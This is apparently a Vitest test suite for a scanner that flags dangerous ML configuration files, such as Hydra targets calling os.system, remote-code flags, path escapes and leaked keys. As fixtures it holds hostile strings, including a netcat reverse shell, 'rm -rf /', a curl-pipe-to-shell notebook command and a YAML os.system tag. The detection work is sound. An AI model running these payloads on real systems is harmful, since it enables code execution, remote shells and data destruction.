import { describe, expect, test } from "vitest";
import { scanBytes, told } from "../builders/scan.js";

const scan = async (value: unknown, name = "config.json") =>
  told(await scanBytes(name, typeof value === "string" ? value : JSON.stringify(value)));

// biome-ignore lint/suspicious/noTemplateCurlyInString: OmegaConf writes interpolations like this
const INTERPOLATED = "${oc.env:TARGET}";

/** A document that triggers a rule, and its twin one step away that does not. */
const cases: readonly (readonly [what: string, bad: unknown, expected: readonly string[], twin: unknown])[] = [
  [
    "auto_map of this repository",
    { auto_map: { AutoModel: "modeling_x.X" } },
    ["medium config/remote-code"],
    { auto_map: null },
  ],
  [
    "auto_map in a list",
    { auto_map: { AutoTokenizer: ["tok_x.X", null] } },
    ["medium config/remote-code"],
    { auto_map: { AutoTokenizer: [null, null] } },
  ],
  [
    "auto_map of another repository",
    { auto_map: { AutoModel: "evil/repo--modeling_x.X" } },
    ["high config/foreign-code"],
    { auto_map: {} },
  ],
  [
    "trust_remote_code in a model's configuration",
    { model_type: "llama", trust_remote_code: true },
    ["medium config/trust-remote-code"],
    { model_type: "llama", trust_remote_code: false },
  ],
  [
    "trust_remote_code that a loader takes (CVE-2026-5241)",
    { model_type: "lightglue", trust_remote_code: true },
    ["high config/trust-remote-code"],
    { model_type: "lightglue" },
  ],
  [
    "trust_remote_code of a training run",
    { lr: 0.1, trust_remote_code: true },
    ["low config/trust-remote-code"],
    { model_args: "trust_remote_code=True" },
  ],
  [
    "a custom pipeline",
    { custom_pipelines: { seg: { impl: "seg.Seg" } } },
    ["medium config/remote-code"],
    { custom_pipelines: {} },
  ],
  [
    "generation code of another repository",
    { custom_generate: "evil/decoding" },
    ["high config/foreign-code"],
    { custom_generate: null },
  ],
  [
    "a library behind an adapter",
    { peft_type: "LORA", auto_mapping: { parent_library: "evil_lib" } },
    ["medium config/remote-code"],
    { peft_type: "LORA", auto_mapping: { parent_library: "transformers.models.llama" } },
  ],
  [
    "a module of a diffusers pipeline",
    { _class_name: "P", scheduler: ["my_scheduler", "S"] },
    ["medium config/remote-code"],
    { _class_name: "UNet2DModel", _diffusers_version: "0.42.1", down_block_types: ["DownBlock2D", "AttnDownBlock2D"] },
  ],
  [
    "a module of a pipeline without a version",
    { _class_name: "P", unet: ["sca", "crp"] },
    ["medium config/remote-code"],
    { _class_name: "StableCascadeUNet", timestep_conditioning_type: ["sca", "crp"] },
  ],
  [
    "a module under the name of a part",
    { _class_name: "P", down_block: ["DownBlock2D", "AttnDownBlock2D"] },
    ["medium config/remote-code"],
    { _class_name: "P", scheduler: ["diffusers", "S"], safety_checker: ["stable_diffusion", "C"], x: [null, null] },
  ],
  [
    "a Hydra target",
    { m: { _target_: "subprocess.check_output", _args_: [["id"]] } },
    ["critical config/unsafe-target"],
    { m: { _target_: "torch.nn.Linear", in_features: 1 } },
  ],
  [
    "a target behind a harmless package",
    { _target_: "torch.utils.data.dataloader.os.system" },
    ["critical config/unsafe-target"],
    { _target_: "torch.utils.data.dataloader.DataLoader" },
  ],
  ["a target of an unknown package", { _target_: "mypkg.build" }, ["low config/unknown-target"], { target: "mypkg" }],
  ["a computed target", { _target_: INTERPOLATED }, ["low config/unknown-target"], { value: INTERPOLATED }],
  [
    "a class path of Lightning's command line",
    { class_path: "os.system", init_args: {} },
    ["critical config/unsafe-target"],
    { class_path: "lightning.Trainer", init_args: {} },
  ],
  [
    "a module of sentence-transformers",
    [{ idx: 0, name: "0", path: "", type: "subprocess.Popen" }],
    ["critical config/unsafe-target"],
    [{ idx: 0, name: "0", path: "", type: "sentence_transformers.models.Pooling" }],
  ],
  [
    "an activation by name",
    { activation_function: "os.getcwd.os.system" },
    ["critical config/unsafe-target"],
    { activation_function: "torch.nn.modules.activation.Tanh" },
  ],
  [
    "a weight file outside the folder",
    { weight_map: { a: "../../secret.bin" } },
    ["high config/path-escape"],
    { weight_map: { a: "model-00001-of-00002.bin" } },
  ],
  [
    "a weight file from an address",
    { weight_map: { a: "https://evil.example/w.bin" } },
    ["medium config/remote-path"],
    { weight_map: { a: "https.bin" } },
  ],
  [
    "a custom operator of MXNet",
    { nodes: [{ op: "Custom", name: "c", attrs: { op_type: "evil" } }], heads: [] },
    ["medium config/custom-operator"],
    { nodes: [{ op: "FullyConnected", name: "c" }], heads: [] },
  ],
  [
    "a pointer in MXNet",
    { nodes: [{ op: "_NDArray", name: "n", attrs: { info: "0x41" } }], heads: [] },
    ["high config/native-pointer"],
    { nodes: [{ op: "null", name: "n" }], heads: [] },
  ],
  [
    "a Python operator of Paddle",
    { base_code: { magic: "pir" }, program: { ops: [{ "#": "1.py_func" }] } },
    ["medium config/custom-operator"],
    { base_code: { magic: "pir" }, program: { ops: [{ "#": "1.matmul" }] } },
  ],
  [
    "a file operator of Paddle",
    { base_code: { magic: "pir" }, program: { ops: [{ "#": "1.save_combine" }] } },
    ["high config/path-escape"],
    { base_code: {}, program: { ops: [{ "#": "1.save_combine" }] } },
  ],
  ["a command that destroys", { cmd: "rm -rf /" }, ["medium config/command-text"], { cmd: "rm -rf build/ && make" }],
  ["a command", { cmd: "nc -e /bin/sh 127.0.0.1 9" }, ["medium config/command-text"], { cmd: "train --lr 0.1" }],
  ["a key that stands twice", '{"a": 1, "a": 2}', ["low config/duplicate-key"], '{"a": 1, "b": 2}'],
  [
    "what a key that stands twice hides",
    '{"x": {"_target_": "os.system"}, "x": 1}',
    ["critical config/unsafe-target", "low config/duplicate-key"],
    '{"x": {"_target_": "torch.nn.ReLU"}}',
  ],
  [
    "a credential",
    { aws_access_key_id: "AKIAQ3EGZ7TWLKVN4R2D" },
    ["medium secrets/credential"],
    { aws_access_key_id: "AKIAIOSFODNN7EXAMPLE" },
  ],
  [
    "a tunnel",
    { url: "https://x.trycloudflare.com" },
    ["medium network/suspicious-host"],
    { url: "https://huggingface.co/x" },
  ],
  ["a host by its number", { url: "http://203.0.113.5/m" }, ["low network/ip-address"], { url: "http://127.0.0.1/m" }],
];

describe("what a JSON configuration can do", () => {
  test.each(cases)("%s is told", async (_what, bad, expected) => {
    expect(await scan(bad)).toEqual(expected);
  });

  test.each(cases)("%s has a harmless twin", async (_what, _bad, _expected, twin) => {
    expect(await scan(twin)).toEqual([]);
  });

  test("what configurations call as a matter of course is told as low, and only under exactly its name", async () => {
    expect(await scan({ _target_: "transformers.AutoTokenizer.from_pretrained" })).toEqual([
      "low config/unknown-target",
    ]);
    expect(await scan({ _target_: "os.path.join" })).toEqual(["low config/unknown-target"]);
    expect(await scan({ _target_: "os.path.os.system" })).toEqual(["critical config/unsafe-target"]);
  });

  test("the name that Hydra's own look-up is given counts", async () => {
    expect(await scan({ _target_: "hydra.utils.get_method", path: "os.system" })).toEqual([
      "critical config/unsafe-target",
      "low config/unknown-target",
    ]);
    expect(await scan({ _target_: "hydra.utils.get_method", path: "torch.nn.functional.relu" })).toEqual([
      "low config/unknown-target",
    ]);
  });

  test("the name of the file does not matter", async () => {
    expect(await scan({ _target_: "os.system" }, "weights.bin")).toContain("critical config/unsafe-target");
  });

  test("a finding names the place, the call and the offset", async () => {
    const text = '{"a": [{"_target_": "os.system", "command": "id"}]}';
    const [finding] = (await scanBytes("c.json", text)).findings;
    expect(finding?.message).toBe('a[0]._target_ has os.system(command="id") called when the configuration is built');
    expect(finding?.offset).toBe(text.indexOf('"os.system"'));
  });
});

describe("reading", () => {
  test("UTF-16 is read as Python reads it", async () => {
    const bytes = Buffer.from('\ufeff{"_target_": "os.system"}\n', "utf16le");
    expect(told(await scanBytes("c.json", bytes))).toEqual(["critical config/unsafe-target"]);
  });

  test("a description of a Keras model goes to the judge of Keras", async () => {
    const report = await scanBytes(
      "m.json",
      JSON.stringify({ class_name: "Sequential", config: { layers: [{ class_name: "Dense", config: {} }] } }),
    );
    expect(Object.keys(report.metadata).some((key) => key.startsWith("keras"))).toBe(true);
  });

  test("nesting without end is malformed, and what came before it is kept", async () => {
    const report = await scanBytes("c.json", `{"_target_": "os.system", "x": ${"[".repeat(5000)}`);
    expect(told(report)).toEqual(["critical config/unsafe-target", "medium analysis/malformed"]);
    expect(report.state).toBe("partial");
  });

  test("data after the value is malformed", async () => {
    expect(await scan('{"a": 1} trailing')).toEqual(["medium analysis/malformed"]);
  });

  test("JSON with comments, as editors keep it, is read and not broken", async () => {
    const text = '{\n  // "a": 1,\n  "url": "http://x//y", /* b */ "l": [1, 2,],\n}\n';
    expect(await scan(text, "tsconfig.json")).toEqual([]);
    const [finding] = (await scanBytes("c.json", '// x\n{"_target_": "os.system",}')).findings;
    expect([finding?.rule, finding?.offset]).toEqual(["config/unsafe-target", 18]);
  });

  test("a text that begins with a JSON value is a text", async () => {
    expect(await scan('{"a": 1}\nand so on\n', "notes.txt")).toEqual([]);
    expect(await scan('{"a": 1}\nand AKIAQ3EGZ7TWLKVN4R2D\n', "notes.txt")).toEqual(["medium secrets/credential"]);
  });

  test("JSON that goes on as YAML is read as a YAML reader would", async () => {
    expect(await scan('{"a": !!python/object/apply:os.system ["id"]}')).toContain("critical config/unsafe-yaml-tag");
  });

  test("rows of data are data, but a target in a row is told", async () => {
    const rows = (cell: unknown) =>
      [{ prompt: "os.system" }, { completion: cell }].map((row) => JSON.stringify(row)).join("\n");
    expect(await scan(rows("eval(x); AKIAQ3EGZ7TWLKVN4R2D"), "d.jsonl")).toEqual([]);
    expect(await scan(rows({ _target_: "os.system" }), "d.jsonl")).toEqual(["critical config/unsafe-target"]);
  });

  test("a row that is broken ends the reading, and that is told", async () => {
    expect(await scan('{"a": 1}\n{"a": }\n', "d.jsonl")).toEqual(["medium analysis/malformed"]);
  });

  test("the code of a notebook is judged as a program that somebody starts, its prose is not", async () => {
    const notebook = (source: string, type = "code") => ({
      nbformat: 4,
      cells: [{ cell_type: type, source: [source] }],
    });
    const command = "!curl http://203.0.113.7/x | sh";
    expect(await scan(notebook(command), "n.ipynb")).toEqual(["medium config/build-command"]);
    expect(await scan(notebook(command, "markdown"), "n.ipynb")).toEqual([]);
    expect(await scan(notebook("key = 'AKIAQ3EGZ7TWLKVN4R2D'"), "n.ipynb")).toEqual(["medium secrets/credential"]);
  });

  test("what people do in notebooks every day is silent", async () => {
    const source = [
      "%matplotlib inline\n",
      "import os, subprocess, pickle\n",
      "!pip install -q transformers && nvidia-smi\n",
      "files = !ls /content\n",
      "os.system('wget https://example.org/data.zip && unzip data.zip')\n",
      "subprocess.run(['bash', 'prepare.sh'])\n",
      "data = pickle.load(open('data.pkl', 'rb'))\n",
      "if len(data) > 3:\n",
      "    !rm data.zip\n",
      "model?\n",
    ];
    const document = {
      nbformat: 4,
      cells: [{ cell_type: "code", source, outputs: [{ data: { "image/png": "iVBORw0KGgo=" } }] }],
    };
    expect((await scan(document, "n.ipynb")).filter((line) => !/^(?:low|info)/.test(line))).toEqual([]);
  });

  test("a vocabulary of a hundred thousand words is read in time", async () => {
    const vocab = Object.fromEntries(Array.from({ length: 100_000 }, (_, i) => [`tok${i}`, i]));
    const report = await scanBytes("tokenizer.json", JSON.stringify({ model: { vocab } }));
    expect(told(report)).toEqual([]);
    expect(report.durationMs).toBeLessThan(3000);
  });
});
